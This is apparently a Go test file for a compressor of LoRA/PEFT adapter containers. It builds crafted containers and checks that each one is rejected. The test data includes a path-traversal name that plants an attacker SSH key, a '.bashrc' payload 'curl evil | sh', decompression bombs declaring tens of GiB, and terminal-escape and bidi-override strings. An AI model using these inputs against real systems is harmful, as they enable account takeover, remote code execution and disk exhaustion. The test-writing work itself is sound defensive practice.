package compress

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"testing"
)

var updateAttacks = flag.Bool("update-attacks", false, "rewrite the crafted containers of testdata/attack")

// attack is a crafted container of testdata/attack. Each is built here, so
// a file and what it claims to do cannot drift apart; TestAttackFiles
// checks the files against these builders (-update-attacks rewrites them).
type attack struct {
	file   string
	what   string
	header Header
	coded  []Coded
	want   error         // what Expand fails with
	opts   ExpandOptions // how it is expanded
}

// freeSpace fakes a filesystem of 100 GiB with avail bytes free.
func freeSpace(avail int64) statfsFunc {
	return func(string) (int64, int64, error) { return avail, 100 << 30, nil }
}

// zeroTensors is count tensors of n zeros each.
func zeroTensors(count int, dtype string, n int64) []Coded {
	var cs []Coded
	for i := range count {
		cs = append(cs, zeros(fmt.Sprintf("t%02d", i), dtype, n))
	}
	return cs
}

const attackConfig = `{"peft_type":"LORA","r":16}`

func loraHeader() Header {
	return Header{PeftType: "LORA", ConfigName: AdapterConfigFile, Config: attackConfig, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
}

// zeros is a tensor of n zeros: kept 0, an empty payload.
func zeros(name, dtype string, shape ...int64) Coded {
	return Coded{TensorHeader: TensorHeader{Name: name, DType: dtype, Shape: shape, Mode: modeSparse, M: 1}}
}

func attackWithConfig(name, config string) Header {
	h := loraHeader()
	h.ConfigName, h.Config = name, config
	return h
}

var attacks = []attack{
	{file: "config-traversal.cpeft", what: "config name ../../.ssh/authorized_keys: was written as DIR/authorized_keys",
		header: attackWithConfig("../../.ssh/authorized_keys", `"ssh-ed25519 AAAA attacker"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
	{file: "config-dotfile.cpeft", what: "config name .bashrc in the output directory",
		header: attackWithConfig(".bashrc", `"curl evil | sh"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
	{file: "config-marker.cpeft", what: "config name .expertd.json: would overwrite the hand-off marker",
		header: attackWithConfig(".expertd.json", `{"cid":"bafkrei..."}`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},

	// Decompression bombs: zeros cost no payload, so a few hundred bytes
	// declare any size; what they declare is checked before writing.
	{file: "zeros-2gib.cpeft", what: "one F32 tensor of 2^29 zeros (2 GiB): 2.1 GB RSS and 2 GiB written before",
		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrOutputLimit, opts: ExpandOptions{MaxOutput: 1 << 30}},
	{file: "zeros-2gib.cpeft", what: "the same under the limit, with 1 GiB free",
		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrNoSpace, opts: ExpandOptions{statfs: freeSpace(1 << 30)}},
	{file: "zeros-64gib.cpeft", what: "eight F32 tensors of 2^31-1 zeros (64 GiB), over the default limit",
		header: loraHeader(), coded: zeroTensors(8, "F32", 1<<31-1), want: ErrOutputLimit},
	{file: "zeros-2gib.cpeft", what: "written as BF16 it is 1 GiB: under a 1 GiB+1 MiB limit, but over 512 MiB free",
		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrNoSpace, opts: ExpandOptions{DType: "bf16", MaxOutput: 1<<30 + 1<<20, statfs: freeSpace(1 << 29)}},
	{file: "kept-no-payload.cpeft", what: "2^19 of 2^20 elements kept in an empty payload",
		header: loraHeader(), coded: []Coded{{TensorHeader: TensorHeader{Name: "w", DType: "F32", Shape: []int64{1 << 20}, Kept: 1 << 19, Mode: modeSparse, M: 1}}},
		want: ErrCorrupt},
	{file: "dense-none-kept.cpeft", what: "dense mode with nothing kept (the encoder codes the smaller side)",
		header: loraHeader(), coded: []Coded{{TensorHeader: TensorHeader{Name: "w", DType: "F32", Shape: []int64{1 << 10}, Mode: modeDense, M: 1, Bytes: 128}, Payload: make([]byte, 128)}},
		want: ErrCorrupt},
}

func (a attack) bytes(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	if _, err := Write(&buf, a.header, a.coded); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestAttackFiles keeps testdata/attack in step with the builders.
func TestAttackFiles(t *testing.T) {
	done := map[string]bool{}
	for _, a := range attacks {
		if done[a.file] {
			continue
		}
		done[a.file] = true
		path := filepath.Join("testdata/attack", a.file)
		want := a.bytes(t)
		if *updateAttacks {
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(path)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s differs from its builder (%v): run go test -run TestAttackFiles -update-attacks", path, err)
		}
	}
}

// TestAttackContainers decompresses every crafted container: each must
// fail with its error and leave the output directory as it was.
func TestAttackContainers(t *testing.T) {
	for i, a := range attacks {
		t.Run(fmt.Sprintf("%d-%s", i, a.file), func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata/attack", a.file))
			if err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(t.TempDir(), "out")
			_, err = Expand(bytes.NewReader(data), out, a.opts)
			if !errors.Is(err, a.want) {
				t.Fatalf("%s: got %v, want %v", a.what, err, a.want)
			}
			t.Logf("%s: %v", a.what, err)
			if _, err := os.Stat(out); !errors.Is(err, fs.ErrNotExist) {
				t.Fatalf("the output directory was created (%v)", err)
			}
		})
	}
}

// TestConfigNames: only adapter_config.json (config.json for a full
// residual), or no config, passes the header check; the same name with
// any other spelling or path does not.
func TestConfigNames(t *testing.T) {
	for _, c := range []struct {
		peft, name, config string
		ok                 bool
	}{
		{"LORA", AdapterConfigFile, attackConfig, true},
		{"IA3", AdapterConfigFile, `{}`, true},
		{"LORA", "", "", true},
		{PeftTypeFull, ModelConfigFile, `{"model_type":"gpt2"}`, true},
		{PeftTypeFull, "", "", true},
		{"LORA", ModelConfigFile, `{}`, false},
		{PeftTypeFull, AdapterConfigFile, `{}`, false},
		{"LORA", "./adapter_config.json", `{}`, false},
		{"LORA", "x/adapter_config.json", `{}`, false},
		{"LORA", "/adapter_config.json", `{}`, false},
		{"LORA", "adapter_config.json/", `{}`, false},
		{"LORA", "ADAPTER_CONFIG.JSON", `{}`, false},
		{"LORA", "adapter_config.json\x00", `{}`, false},
		{"LORA", AdapterWeightsFile, `{}`, false},
		{"LORA", "..", `{}`, false},
		{"LORA", ".", `{}`, false},
		{"LORA", `..\..\x`, `{}`, false},
		{"LORA", "", `{"peft_type":"LORA"}`, false}, // a config with no name
		{"LORA", AdapterConfigFile, `not json`, false},
		{"LO RA", AdapterConfigFile, `{}`, false},
		{"LORA\u202e", AdapterConfigFile, `{}`, false},
	} {
		h := Header{PeftType: c.peft, ConfigName: c.name, Config: c.config, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
		var buf bytes.Buffer
		if _, err := Write(&buf, h, []Coded{zeros("a", "F32", 4)}); err != nil {
			t.Fatal(err)
		}
		_, err := NewReader(&buf)
		if c.ok && err != nil || !c.ok && !errors.Is(err, ErrCorrupt) {
			t.Errorf("%s %q: %v", c.peft, c.name, err)
		}
	}
}

// TestDisplayedStrings: tensor names, alpha and the base fingerprint are
// shown by inspect; control and format characters are refused.
func TestDisplayedStrings(t *testing.T) {
	for _, mod := range []func(*Header, *Coded){
		func(_ *Header, c *Coded) { c.Name = "a\x1b[2J" },
		func(_ *Header, c *Coded) { c.Name = "lora_A\u202e" },
		func(h *Header, _ *Coded) { h.Alpha = "auto\n" },
		func(h *Header, _ *Coded) { h.Base = "sha256:\u200b" },
	} {
		h, c := loraHeader(), zeros("a", "F32", 4)
		mod(&h, &c)
		var buf bytes.Buffer
		if _, err := Write(&buf, h, []Coded{c}); err != nil {
			t.Fatal(err)
		}
		if _, err := NewReader(&buf); !errors.Is(err, ErrCorrupt) {
			t.Errorf("%+v %q: %v", h, c.Name, err)
		}
	}
}
